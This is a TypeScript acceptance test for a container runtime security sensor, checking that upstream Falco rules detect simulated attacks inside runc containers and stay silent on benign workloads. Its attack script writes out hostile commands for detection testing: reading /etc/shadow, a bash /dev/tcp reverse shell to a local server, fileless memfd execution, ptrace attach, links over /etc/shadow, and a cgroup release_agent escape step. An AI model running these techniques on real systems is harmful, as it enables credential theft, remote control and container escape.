/**
 * The live acceptance run: in real runc containers (Debian fixture image on an overlay
 * root, test/helpers/runc.ts), each attack fires its upstream Falco rule 20 times out of 20 with
 * the container's id, and a benign workload in the same image fires none, 20 times out of 20.
 *
 * Attacks, each in every repetition: reading /etc/shadow, writing below /etc, a shell spawned by a
 * non-shell parent (perl under the name nginx, a protected shell spawner), a bash reverse shell
 * (stdin/stdout on a TCP socket to 127.0.0.1), a binary written into the upper layer and run,
 * execution from /dev/shm, a memfd exec, ptrace attach of another process, PTRACE_TRACEME, a
 * symlink and a hardlink over /etc/shadow. Two upstream rules test the thread's capabilities
 * (thread.cap_effective): a write to a cgroup `release_agent` file and a kernel module load; the
 * attack container (runc's default capabilities) does both and must fire neither, and a container
 * given CAP_SYS_ADMIN and CAP_SYS_MODULE (as `--cap-add` does) doing the same fires each once.
 *
 * Rules: the upstream stable rules (../shared/data/falco) and, for 'Write below etc' (not in the
 * stable set), the upstream sandbox file loaded after them as Falco loads it; alerts of other
 * sandbox rules are not counted. Needs root, runc and the sensor (built here). The kernel's drop
 * counters must stay at 0 during the run, so that a missed alert cannot hide behind a drop.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { loadRules, type Alert } from '../../src/runtime/rules/index.js';
import { Sensor, sensorBuildScript } from '../../src/runtime/sensor/index.js';
import { StateTracker } from '../../src/runtime/state/index.js';
import { RuncBundle } from '../helpers/runc.js';
import { CORPORA, SHARED } from '../helpers/shared.js';

const STABLE = `${SHARED}/data/falco/falco_rules.yaml`;
const SANDBOX = `${CORPORA}/falco/falcosecurity-rules/rules/falco-sandbox_rules.yaml`;
const REPS = Number(process.env.BULWARK_ATTACK_REPS ?? 20);

const stableText = readFileSync(STABLE, 'utf8');
const STABLE_RULES = new Set([...stableText.matchAll(/^- rule: (.+)$/gm)].map((m) => m[1]!.trim()));
const COUNTED = new Set([...STABLE_RULES, 'Write below etc']);
const rules = loadRules(
  [
    { name: STABLE, content: stableText },
    { name: SANDBOX, content: readFileSync(SANDBOX, 'utf8') },
  ],
  { hostname: 'node-1' },
);
const state = new StateTracker();
const alerts: { alert: Alert; containerId: string }[] = [];
const execsByContainer = new Map<string, string[]>();
let sensor: Sensor | undefined;
const bundle = new RuncBundle();
let server: Server | undefined;
let port = 0;
let received = 0;

const PERL_MEMFD =
  '$^F=255; my $n="bwk"; my $fd=syscall(319,$n,0); die "memfd: $!" if $fd<0; open(my $in,"<","/bin/true") or die; ' +
  'binmode $in; local $/; my $d=<$in>; open(my $out,">&=",$fd) or die; binmode $out; syswrite($out,$d) or die; ' +
  'exec {"/proc/self/fd/$fd"} "bwk-memfd" or die "exec $!"';
const PERL_ATTACH =
  'my $p=fork; if(!$p){sleep 3; exit 0} select(undef,undef,undef,0.05); syscall(101,16,$p,0,0); kill 9,$p; waitpid($p,0)';

function attackScript(): string {
  return [
    'rm -f /etc/bwk-written /tmp/nginx /tmp/dropped /dev/shm/bwk-x /tmp/bwk-sl /tmp/bwk-hl',
    'cat /etc/shadow >/dev/null',
    'echo x > /etc/bwk-written',
    'ln -s /usr/bin/perl /tmp/nginx',
    `/tmp/nginx -e 'system("/bin/sh", "-c", "true")'`,
    `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; exec 0<&3 1>&3; echo reverse-shell-ok'`,
    'cp /bin/true /tmp/dropped',
    '/tmp/dropped',
    // /dev/shm is noexec in runc's (as in Docker's and containerd's) default spec: the script is run by a shell
    "printf '#!/bin/sh\\ntrue\\n' > /dev/shm/bwk-x",
    'sh /dev/shm/bwk-x',
    `perl -e '${PERL_MEMFD}'`,
    `perl -e '${PERL_ATTACH}'`,
    `perl -e 'syscall(101,0,0,0,0)'`,
    'ln -s /etc/shadow /tmp/bwk-sl',
    'ln /etc/shadow /tmp/bwk-hl',
    ...CAP_GATED,
    '/bin/echo attacks-done >/dev/null',
  ].join('\n');
}

// a release_agent write (the cgroup v1 escape's step; a plain file here, never the host's cgroup)
// and finit_module(-1): this kernel has no module loading (ENOSYS; EBADF elsewhere), nothing is loaded, but the attempt is what the rule looks for
const CAP_GATED = [
  'mkdir -p /tmp/bwk-cg && echo /tmp/x > /tmp/bwk-cg/release_agent',
  `perl -e 'my $p = ""; syscall(313, -1, $p, 0)'`,
];
const CAP_EXPECTED: Record<string, number> = {
  'Detect release_agent File Container Escapes': 1,
  'Linux Kernel Module Injection Detected': 1,
};

const BENIGN = [
  'cat /etc/hostname >/dev/null',
  'ls / /usr/bin >/dev/null',
  'echo hi > /tmp/benign.txt',
  'grep root /etc/passwd >/dev/null',
  'python3 -c "import json; print(json.dumps({1: 2}))" >/dev/null',
  'perl -e "print 1" >/dev/null',
  'sh -c "date >/dev/null"',
  'tar -cf /tmp/benign.tar /etc/hostname 2>/dev/null',
  '/bin/echo benign-done >/dev/null',
].join('\n');

const EXPECTED: Record<string, number> = {
  'Read sensitive file untrusted': 1,
  'Write below etc': 1,
  'Run shell untrusted': 1,
  'Redirect STDOUT/STDIN to Network Connection in Container': 2,
  'Drop and execute new binary in container': 1,
  'Execution from /dev/shm': 1,
  'Fileless execution via memfd_create': 1,
  'PTRACE attached to process': 1,
  'PTRACE anti-debug attempt': 1,
  'Create Symlink Over Sensitive Files': 1,
  'Create Hardlink Over Sensitive Files': 1,
};

function countsOf(cid: string): Record<string, number> {
  const c: Record<string, number> = {};
  for (const a of alerts)
    if (a.containerId === cid && COUNTED.has(a.alert.rule)) c[a.alert.rule] = (c[a.alert.rule] ?? 0) + 1;
  return c;
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function waitExec(cid: string, marker: string): Promise<void> {
  const end = Date.now() + 10_000;
  while (Date.now() < end && !(execsByContainer.get(cid) ?? []).some((a) => a.includes(marker)))
    await sleep(20);
  // events of the container's last processes, already in the ring, are decoded within a poll period
  await sleep(300);
}

function kernelDrops(): number {
  return sensor!.counters.drops;
}

describe('upstream rules on attacks in real containers, 20 runs each', { timeout: 600_000 }, () => {
  before(async () => {
    execFileSync('bash', [sensorBuildScript(), '--require'], { stdio: ['ignore', 'ignore', 'inherit'] });
    await bundle.open();
    server = createServer((sock) => {
      received++;
      sock.resume();
      sock.on('error', () => {});
    });
    await new Promise<void>((r) => server!.listen(0, '127.0.0.1', r));
    port = (server.address() as AddressInfo).port;
    sensor = new Sensor({
      state,
      statsMs: 200,
      onEvent: (ev) => {
        const t = state.current;
        const cid = t?.containerId ?? '';
        for (const a of rules.evaluate(ev, state)) alerts.push({ alert: a, containerId: cid });
        if (ev.type === 'execve' && cid && cid !== 'host') {
          const l = execsByContainer.get(cid) ?? [];
          l.push([String(ev.params.exe), ...((ev.params.args as string[]) ?? [])].join(' '));
          execsByContainer.set(cid, l);
        }
      },
    });
    await sensor.start();
  });
  after(async () => {
    await sensor?.stop();
    bundle.close();
    server?.close();
  });

  it(`each attack fires its rule ${REPS}/${REPS} with the container id`, async () => {
    const drops0 = kernelDrops();
    const perRep: Record<string, number>[] = [];
    for (let i = 0; i < REPS; i++) {
      const cid = await bundle.run(['/bin/bash', '-c', attackScript()], { hostNetwork: true });
      await waitExec(cid, 'attacks-done');
      perRep.push(countsOf(cid));
    }
    sensor!.requestStats();
    await sleep(400);
    assert.equal(kernelDrops() - drops0, 0, 'no kernel drops during the run');
    assert.equal(received, REPS, 'every reverse shell reached the server');
    const fired: Record<string, number> = {};
    for (const c of perRep)
      for (const [r, n] of Object.entries(c)) if (n === EXPECTED[r]) fired[r] = (fired[r] ?? 0) + 1;
    const want = Object.fromEntries(Object.keys(EXPECTED).map((r) => [r, REPS]));
    assert.deepEqual(
      fired,
      want,
      `runs in which each rule fired exactly as expected:\n${JSON.stringify(perRep, null, 1)}`,
    );
    // and nothing else counted fired in any run
    for (const c of perRep) assert.deepEqual(c, EXPECTED);
  });

  it(`with CAP_SYS_ADMIN and CAP_SYS_MODULE the capability-gated rules fire, ${REPS}/${REPS}`, async () => {
    const perRep: Record<string, number>[] = [];
    for (let i = 0; i < REPS; i++) {
      const cid = await bundle.run(['/bin/bash', '-c', [...CAP_GATED, '/bin/echo caps-done'].join('\n')], {
        capAdd: ['CAP_SYS_ADMIN', 'CAP_SYS_MODULE'],
      });
      await waitExec(cid, 'caps-done');
      perRep.push(countsOf(cid));
    }
    for (const c of perRep) assert.deepEqual(c, CAP_EXPECTED, JSON.stringify(perRep, null, 1));
    // the output shows the sets as Falco renders them
    const release = alerts.find((a) => a.alert.rule === 'Detect release_agent File Container Escapes')!;
    assert.match(release.alert.output, /cap_effective=[A-Z_ ]*CAP_SYS_ADMIN/);
    assert.match(String(release.alert.output_fields['thread.cap_effective']), /^CAP_\w+( CAP_\w+)*$/);
  });

  it(`a benign workload in the same image fires nothing, ${REPS}/${REPS}`, async () => {
    const quiet: string[] = [];
    for (let i = 0; i < REPS; i++) {
      const cid = await bundle.run(['/bin/bash', '-c', BENIGN]);
      await waitExec(cid, 'benign-done');
      assert.ok((execsByContainer.get(cid) ?? []).length >= 8, 'the benign commands were seen');
      const c = alerts.filter((a) => a.containerId === cid);
      if (c.length === 0) quiet.push(cid);
      else assert.fail(`benign run ${i} fired: ${c.map((a) => a.alert.output).join('\n')}`);
    }
    assert.equal(quiet.length, REPS);
  });
});
